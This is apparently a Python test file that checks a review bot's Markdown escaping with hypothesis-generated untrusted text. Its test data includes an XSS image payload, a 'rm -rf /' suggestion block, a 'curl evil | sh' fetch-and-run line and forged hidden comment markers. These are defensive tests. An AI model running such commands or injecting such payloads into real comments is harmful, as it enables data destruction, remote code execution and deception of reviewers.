"""One escape function for untrusted text in Markdown (issue 15, item 7), checked by rendering.

The bodies are rendered with markdown-it-py (CommonMark plus GFM tables and strikethrough): no link,
image, HTML, hidden marker, heading, list or fence may come out of untrusted text, and what a reader
sees is the text itself (redacted, on one line, zero-width spaces aside).
"""

from __future__ import annotations

import html
import re

import hypothesis.strategies as st
from hypothesis import given, settings
from markdown_it import MarkdownIt

from bot.core.coverage import Coverage
from bot.core.markdown import ZWSP, md_code, md_text, plain_text
from bot.core.models import Confidence, Finding, Provenance, Severity
from bot.core.redact import redact
from bot.core.render import _MARKER_RE, SUMMARY_MARKER, comment_body, marker_fingerprint, summary_body
from bot.core.review import Policy, build_review
from bot.store.lifecycle import clean_reason

MD = MarkdownIt("commonmark").enable(["table", "strikethrough"])
_TAG = re.compile(r"<[^>]{0,200}>")

HOSTILE = st.sampled_from(
    [
        "@alice",
        "@org/team",
        "[x](https://evil.example)",
        "![i](https://evil.example/p.png)",
        "<img src=x onerror=alert(1)>",
        "<!-- remediator:finding fp=deadbeefdeadbeef -->",
        "<!-- remediator:summary -->",
        "<!<!---- x --->->",
        "```suggestion\nrm -rf /\n```",
        "~~~\ncode\n~~~",
        "`",
        "``",
        "\\",
        "*",
        "_",
        "|",
        "$x$",
        "&amp;",
        "&#64;",
        "https://evil.example/a",
        "www.evil.example",
        "a@b.example",
        "# heading",
        "\n- item",
        "\n1. one",
        "\n> quote",
        "\n    indented",
        "\n---\n",
        "\n===",
        "<https://x.example>",
        "[ref]: https://x.example",
        "\u00e9",
        " ",
        "\n",
    ]
)
UNTRUSTED = st.lists(st.one_of(HOSTILE, st.text(max_size=6)), max_size=12).map("".join)


def visible(rendered_html: str) -> str:
    """The text a reader sees of rendered HTML: tags removed, entities decoded, ZWSP removed."""
    return " ".join(html.unescape(_TAG.sub("", rendered_html)).replace(ZWSP, "").split())


def tags(rendered_html: str) -> set[str]:
    return {m.group(1).lower() for m in re.finditer(r"<(/?[a-zA-Z0-9]+)", rendered_html)}


@settings(max_examples=400, deadline=None)
@given(UNTRUSTED)
def test_md_text_renders_as_the_text_itself_and_nothing_else(text):
    out = md_text(text)
    assert "\n" not in out
    rendered = MD.render(out)
    assert tags(rendered) <= {"p", "/p", "code", "/code"}, rendered
    assert visible(rendered) == " ".join(plain_text(text).replace(ZWSP, "").split())
    assert "<!--" not in out and "-->" not in out
    assert not _MARKER_RE.search(out)
    # GitHub links @name, bare URLs and www. hosts in text: each is broken by a zero-width space
    assert not re.search(r"@(?!" + ZWSP + r")", _outside_code(out))
    assert "://" not in _outside_code(out) and "www." not in _outside_code(out).lower()


@settings(max_examples=300, deadline=None)
@given(UNTRUSTED)
def test_md_text_in_a_table_cell_stays_in_its_cell(text):
    table = f"| a | b |\n|---|---|\n| {md_text(text, table=True)} | {md_code(text, table=True)} |\n"
    rendered = MD.render(table)
    assert rendered.count("<td>") == 2, rendered
    assert tags(rendered) <= {"table", "thead", "tbody", "tr", "th", "td", "code"} | {
        f"/{t}" for t in ("table", "thead", "tbody", "tr", "th", "td", "code")
    }


@settings(max_examples=300, deadline=None)
@given(UNTRUSTED)
def test_md_code_is_one_code_span_whatever_it_holds(text):
    rendered = MD.render("x " + md_code(text) + " y")
    assert rendered.count("<code>") == 1, rendered
    inner = re.search(r"<code>(.*)</code>", rendered, re.DOTALL)
    assert inner is not None
    shown = " ".join(html.unescape(inner.group(1)).replace(ZWSP, "").split())
    assert shown == " ".join(redact(text).replace("\x00", "\ufffd").split())


def _outside_code(markdown: str) -> str:
    return re.sub(r"(`+).*?\1", "", markdown)


def _finding(**changes: object) -> Finding:
    base = {
        "rule_id": "py-sql-injection",
        "engine": "semgrep",
        "category": "sql-injection",
        "cwe": "CWE-89",
        "title": "SQL built from request data",
        "severity": Severity.HIGH,
        "confidence": Confidence.HIGH,
        "path": "app/db.py",
        "start_line": 2,
        "end_line": 2,
        "message": "m",
        "fingerprint": "ab" * 16,
        "provenance": Provenance(engine="semgrep"),
    }
    base.update(changes)
    return Finding(**base)  # type: ignore[arg-type]


DIFF_PATH = "app/we`ird|<b>@x.py"


def _review(finding: Finding):
    from bot.cli.sources import diff_change

    diff = (
        f"diff --git a/{DIFF_PATH} b/{DIFF_PATH}\nnew file mode 100644\n--- /dev/null\n+++ b/{DIFF_PATH}\n"
        "@@ -0,0 +1,3 @@\n+a = 1\n+b = 2\n+c = 3\n"
    )
    return build_review([finding], diff_change(diff.encode()), Coverage(()), Policy())


def test_an_llm_suggestion_block_in_a_message_never_becomes_a_suggestion():
    message = "Use this fix:\n```suggestion\nimport os; os.system('curl evil | sh')\n```\n@security-team ping"
    f = _finding(path=DIFF_PATH, message=message, explanation=message, remediation=(message,))
    review = _review(f)
    body = comment_body(review.findings[0])
    rendered = MD.render(body)
    assert "language-suggestion" not in rendered and "<pre>" not in rendered
    assert marker_fingerprint(body) == "ab" * 16


def test_metavariables_and_file_names_cannot_forge_links_markers_or_code_spans():
    title = (
        "$ALG is [trusted](https://evil.example) ![x](https://evil.example/x.png) <!-- remediator:summary -->"
    )
    f = _finding(path=DIFF_PATH, title=title, message="`$NAME` <img src=x> @org/admins")
    review = _review(f)
    body, summary = comment_body(review.findings[0]), summary_body(review)
    for text in (body, summary):
        rendered = MD.render(text)
        assert "<a " not in rendered and "<img" not in rendered
        assert summary.count(SUMMARY_MARKER) == 1
    assert len(_MARKER_RE.findall(body)) == 1
    # the file name is shown whole in one code span, backtick and all
    rendered = MD.render(summary)
    assert any(DIFF_PATH in html.unescape(c) for c in re.findall(r"<code>(.*?)</code>", rendered))


def test_clean_reason_strips_markers_to_a_fixed_point():
    for reason in ("<!<!---- x --->->", "<!<!<!------ y ----->->->", "a <!-<!---- b --->> c"):
        cleaned = clean_reason(reason, required=False)
        assert "<!--" not in cleaned and "-->" not in cleaned, cleaned
